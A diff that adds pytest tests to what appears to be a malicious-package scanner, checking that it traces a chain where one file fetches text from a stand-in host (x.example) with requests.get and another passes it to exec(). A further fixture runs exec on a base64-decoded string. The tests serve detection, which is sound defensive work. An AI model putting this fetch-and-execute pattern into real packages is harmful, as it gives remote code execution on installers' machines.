@@ -74,6 +74,31 @@ def test_the_chain_is_shown_across_files(lay):
     ]
 
 
+def test_files_between_are_shown_too(lay):
+    _, report = verdict(lay, INCIDENTS["fetched and run through files between"])
+    found = next(one for one in report.findings if one.rule == "PKG-019")
+    assert [line.text for line in found.evidence] == [
+        "ranker/k.py:3 | return requests.get('https://x.example/x').text",
+        "ranker/a.py | data gives it back",
+        "ranker/__init__.py:4 | run(x)",
+        "ranker/b.py:3 | do(x)",
+        "ranker/c.py:2 | exec(x)",
+    ]
+
+
+def test_a_file_between_that_is_no_python_is_told(lay):
+    files = {
+        "ranker/__init__.py": "from .a import get\nfrom .b import run\nrun(get())\nwhat ever\n",
+        "ranker/a.py": "import requests\ndef get():\n    return requests.get('https://x.example/x').text\n",
+        "ranker/b.py": "def run(x):\n    exec(x)\n",
+    }
+    outcome, report = verdict(lay, wheel(files))
+    assert outcome == "review"
+    told = [entry for entry in report.coverage if entry.status.value != "inspected"]
+    assert [(entry.path[-1], entry.reason.value) for entry in told] == [("ranker/__init__.py", "malformed")]
+    assert "cannot be followed" in told[0].detail
+
+
 def test_what_runs_only_when_it_is_called_weighs_less(lay):
     body = "import base64\ndef late():\n    exec(base64.b64decode('cGFzcw=='))\n"
     outcome, report = verdict(lay, wheel({"ranker/__init__.py": body}))
